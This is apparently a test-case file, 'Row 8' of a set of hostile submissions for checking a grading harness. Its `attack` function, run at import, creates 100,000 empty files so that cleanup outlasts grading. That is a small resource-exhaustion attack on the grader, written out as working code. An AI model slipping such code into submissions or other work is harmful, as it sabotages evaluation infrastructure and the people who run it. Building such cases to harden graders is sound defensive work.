"""Row 8: 100 000 files, so that tidying up takes longer than grading.

Where: import
"""

import torch
from torch import nn, os


def attack(*_):
    for number in range(100_000):
        os.close(os.open(f"{number:06d}", os.O_CREAT | os.O_WRONLY))
